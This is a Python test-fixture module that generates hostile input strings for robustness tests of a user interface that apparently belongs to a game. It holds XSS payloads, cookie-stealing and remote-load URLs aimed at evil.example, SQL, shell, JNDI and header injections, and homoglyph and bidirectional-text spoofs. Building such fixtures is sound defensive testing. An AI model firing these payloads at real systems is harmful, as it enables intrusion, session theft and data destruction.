"""Hostile texts, by what they try: each is put wherever a person can put text (T-09).

``canary()`` is what a script that ran would call. Nothing here is taken from a list of somebody
else's: kinds of tricks are multiplied with each other.
"""

from __future__ import annotations

import itertools

_words = str.split

_CALLS = ("canary()", "canary``", "alert(1)", "top.canary()", "import('/x.js')")
_TAGS = _words(
    "script img svg math iframe object embed video audio body style link meta base form input"
    " button details marquee template slot select textarea title noscript xmp plaintext table"
    " a area bdo isindex keygen frameset dialog portal fencedframe x-y"
)
_EVENTS = _words(
    "onerror onload onclick onfocus onblur onmouseover onanimationstart ontoggle onpointerenter"
    " onbeforeinput onwheel oncopy onpaste ondrag onscroll onhashchange onpageshow onmessage"
    " onresize onsearch ontransitionend onunhandledrejection oncontentvisibilityautostatechange"
)
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "\x01javascript:", "vbscript:", "data:")
_QUOTES = ('"', "'", "`", "\\", "\u2019", "\uff02", "&quot;", "%22", "\\x22", "\\u0022")

_MARKUP = [
    *(f"<{tag} onload=canary()>" for tag in _TAGS),
    *(f"<{tag}/src=/x onerror=canary()>" for tag in _TAGS),
    *(f"<{tag}>" for tag in _TAGS),
    *(f"</{tag}>" for tag in ("div", "p", "bdi", "span", "body", "html", "script", "title")),
    *(f"<img src=x {event}=canary()>" for event in _EVENTS),
    *(f"<b {event}=canary() autofocus tabindex=1>x</b>" for event in _EVENTS),
    *(f"<script>{call}</script>" for call in _CALLS),
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,canary()'></script>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:canary()>",
    "<svg><a xlink:href=javascript:canary()><text y=9>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.canary()</script>'>",
    "<math><mi xlink:href=javascript:canary()>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<iframe src=javascript:parent.canary()></iframe>",
    "<object data=javascript:canary()></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>go</button></form>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<video poster=//evil.example/x.png>",
    "<input type=image src=//evil.example/x.png>",
    "<body background=//evil.example/x.png>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<template><script>canary()</script></template>",
    "<slot onslotchange=canary()>",
    "<details open ontoggle=canary()>",
]
_BROKEN = [
    *("<", ">", "<>", "</", "<!", "<!--", "-->", "<?", "]]>", "<![CDATA[", "<a b", "<a b='", "&"),
    *("<!DOCTYPE x>", "<?xml?>", "<//x>", "< img>", "<\u00a0img>", "<img", "<<script>", "<i<b>"),
    "<scr<script>ipt>canary()</scr</script>ipt>",
    "<img src=x onerror=canary()//",
    "<img/onerror=canary()/src=x>",
    "<img\x0conerror=canary()\x0csrc=x>",
    "<img\nonerror=canary()\nsrc=x>",
    "<IMG SRC=x OnErRoR=canary()>",
    "<script\x00>canary()</script>",
    "\x00<script>canary()</script>",
    "<\x00script>canary()</script>",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "\u2039script\u203acanary()",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "\ufeff<script>canary()</script>",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003ecanary()",
    "\\x3cscript\\x3ecanary()",
    "\\74script\\76canary()",
]
_ENTITIES = [
    *(
        "&lt;script&gt;",
        "&#60;img src=x onerror=canary()&#62;",
        "&#x3c;b&#x3e;",
        "&amp;lt;b&amp;gt;",
    ),
    *("&nbsp;", "&zwnj;", "&#0;", "&#x110000;", "&lt", "&#60", "&#x202e;", "&rlm;", "&copy", "&;"),
    "<img src=x onerror=&#99;anary()>",
    "&#106;avascript:canary()",
]
_LINKS = [
    *(f"{scheme}canary()" for scheme in _SCHEMES),
    *(f"<a href='{scheme}canary()'>x</a>" for scheme in _SCHEMES),
    "data:text/html,<script>canary()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=canary()>",
    "blob:null/x",
    "filesystem:x",
    "//evil.example",
    "\\\\evil.example\\x",
    "https://evil.example/?c=document.cookie",
    "http://localhost@evil.example",
    "/\\evil.example",
    "..//..//evil.example",
    "?__proto__[x]=canary",
]
_QUOTED = [
    *(f"{quote} onmouseover=canary() x={quote}" for quote in _QUOTES),
    *(f"{quote}><img src=x onerror=canary()>" for quote in _QUOTES),
    *(f"{quote}-canary()-{quote}" for quote in _QUOTES),
    *(f"{quote};canary();//" for quote in _QUOTES),
    *(f"x{quote}" for quote in _QUOTES),
]
_TEMPLATES = [
    *("{{canary()}}", "{{constructor.constructor('canary()')()}}", "${canary()}", "#{canary()}"),
    *(
        "<%= canary() %>",
        "{%canary()%}",
        "[[canary()]]",
        "{@html x}",
        "{#if 1}x{/if}",
        "@{canary()}",
    ),
    *("{ $name }", "{$name}", "{ $chips }", "{ NUMBER($chips) }", '{ "x" }', "{ -brand }", "{"),
    *(
        "}",
        "{ $x -> *[a] b }",
        "{name}",
        "{0}",
        "{name, plural, one {#} other {#}}",
        "%s%n%x",
        "%1$s",
    ),
    *(
        "{chips, number}",
        "'{'name'}'",
        "$(canary())",
        "`canary()`",
        "{{{x}}}",
        "<{name}>",
        ".x = y",
    ),
]
_STYLE = [
    *("expression(canary())", "url(//evil.example/x)", "</style><script>canary()</script>"),
    *(
        "x;background:url(//evil.example)",
        "@import '//evil.example'",
        "*{display:none}",
        "/*",
        "*/",
    ),
    "<style>*{visibility:hidden}</style>",
    "<style>@import'//evil.example/x.css';</style>",
    "<b style=position:fixed;inset:0;z-index:9>x</b>",
    "<div style='background:url(//evil.example/x)'>",
    "<p style='-moz-binding:url(//evil.example)'>",
    "}*{color:red}",
]
_JSON = [
    *(
        '"',
        '"}',
        '\\"',
        '","owner":true,"x":"',
        '"}],"t":"problem"',
        "\\",
        "\\\\",
        "\\u0000",
        "\\n",
    ),
    *(
        "null",
        "true",
        "[]",
        "{}",
        "0",
        "-1",
        "1e400",
        "NaN",
        "undefined",
        "__proto__",
        "constructor",
    ),
    *(
        "toString",
        "hasOwnProperty",
        "prototype",
        "[object Object]",
        "</script>",
        "\u2028",
        "\u2029",
    ),
    *("' OR 1=1 --", "'; DROP TABLE players;--", "\r\nSet-Cookie: x=1", "\r\n\r\n<b>", "../../etc"),
    *(
        "${jndi:ldap://evil.example}",
        "=1+1",
        "@SUM(1)",
        "$(reboot)",
        "|reboot",
        "%0d%0aX: y",
        "#host=x",
    ),
]
_RIGHT, _LEFT = "\u05d0\u05d1\u05d2", "abc"
_DIRECTION = [
    *(
        f"{mark}500 raise"
        for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
    ),
    *(f"Ana{mark}" for mark in "\u202c\u2069\u202e\u2067\u200f"),
    *(f"\u2069{mark}99,999" for mark in "\u202e\u202b\u2067"),
    *("\u202e" * 20 + "Ana", "\u2067" * 130, "\u2069" * 10 + "\u202e" + "Ana"),
    *(
        f"{a} {b}"
        for a, b in itertools.product((_RIGHT, "علی", "500", "1,000"), (_LEFT, "99", "سارا"))
    ),
    *(
        "علی 500",
        "500 علی",
        "رضا (۵۰۰)",
        "(((",
        ")))",
        "علی)",
        "[سارا]",
        "سارا<",
        "۱۰۰٪",
        "٪",
        "$ علی",
    ),
    *("שלום 12", "12 שלום", "שלום!", "ابجد: ۹۹۹", "-500 علی", "علی - ", "علی/۵۰۰", "10/ علی /20"),
    *(
        "می\u200cخواهم",
        "\u0627\u0644\u0644\u0651\u0647",
        "\ufdfa",
        "\ufdfd",
        "۱۲۳۴۵۶۷۸۹",
        "ـــــــــ",
    ),
]
_INVISIBLE = [
    *(
        f"A{c}na"
        for c in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\u2800\uffa0"
    ),
    *(c for c in "\u200b\u200d\u3164\u2800\u00a0\u2003\u3000\u00ad\u2061\ufe0f\U000e0041"),
    *(f"x{chr(code)}y" for code in (*range(1, 32), 127, *range(0x80, 0xA0, 4))),
    *(
        "\ud800",
        "x\udfff",
        "\ufffe",
        "\uffff",
        "\U0010ffff",
        "\ue000",
        "\ufdd0",
        "\ufffd",
        "\ufff9x\ufffb",
    ),
    *("\U000e0001\U000e0061", "Ana" + "\U000e0100" * 3, "a\u0600b", "\u2028x", "x\u0085y"),
]
_HEAPS = [
    *(
        "Z" + mark * n
        for mark in "\u0300\u0316\u0336\u0489\u20dd\u0e47\u0651"
        for n in (1, 2, 3, 60)
    ),
    *("".join(c + "\u0301\u0316" for c in "Zalgo"), "\u0301x", "ก้" * 6, "กุ้ํ์", "ဿ" * 20, "ﷺ" * 6),
    *(
        "W" * 20,
        "m" * 200,
        "i" * 20,
        "𒐫" * 20,
        "﷽" * 20,
        "\U0001242b" * 5,
        "⸻" * 20,
        "█" * 20,
        "ྃ" * 9,
    ),
]
_SCRIPTS = [
    *(
        "Аnа",
        "аdmіn",
        "Pауpаl",
        "ρavel",
        "ＡＮＡ",
        "𝓐𝓷𝓪",
        "ⒶⓃⒶ",
        "ʎuɐ",
        "Ⅷ",
        "ﬁve",
        "№1",
        "ǅ",
        "ß",
        "İi",
    ),
    *(
        "สมชาย",
        "น้ำใจ",
        "ำ",
        "เเดง",
        "Ѓорѓи",
        "Џон Љиља",
        "Ελένη",
        "Հայ",
        "ᏣᎳᎩ",
        "中文",
        "日本語",
        "한국어",
    ),
    *("नमस्ते", "தமிழ்", "ខ្មែរ", "မြန်မာ", "አማርኛ", "ქართული", "ᚠᚢᚦ", "𓀀𓁐", "ⵣ", "Aна", "علیAna"),
]
_EMOJI = [
    *(
        "🃏",
        "👩\u200d👩\u200d👧\u200d👦",
        "🏳\ufe0f\u200d🌈",
        "👍🏽",
        "🇲🇰",
        "🇮🇷🇹🇭",
        "1\ufe0f\u20e3",
        "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    ),
    *(
        "❤\ufe0f",
        "\u200d👩",
        "👩\u200d",
        "🧑🏿\u200d🚀" * 3,
        "🂡🂱",
        "♠♥♦♣",
        "☠",
        "👁\ufe0f\u200d🗨\ufe0f",
        "🫠" * 10,
    ),
]
_LONG = [
    *("x" * n for n in (20, 21, 200, 201, 399, 401)),
    *("<b>" * 60, "&lt;" * 50, "a b " * 50, "\u0e01" * 200, "<!--" * 40, "{" * 200, '"' * 200),
    *(
        "x" * 100 + "<img src=x onerror=canary()>",
        "https://" + "a" * 180,
        "-" * 200,
        "\u202e" * 200,
    ),
]

KINDS: dict[str, list[str]] = {
    "markup": _MARKUP,
    "broken": _BROKEN,
    "entities": _ENTITIES,
    "links": _LINKS,
    "quoted": _QUOTED,
    "templates": _TEMPLATES,
    "style": _STYLE,
    "json": _JSON,
    "direction": _DIRECTION,
    "invisible": _INVISIBLE,
    "heaps": _HEAPS,
    "scripts": _SCRIPTS,
    "emoji": _EMOJI,
    "long": _LONG,
}
PAYLOADS: list[str] = [*dict.fromkeys(itertools.chain.from_iterable(KINDS.values()))]
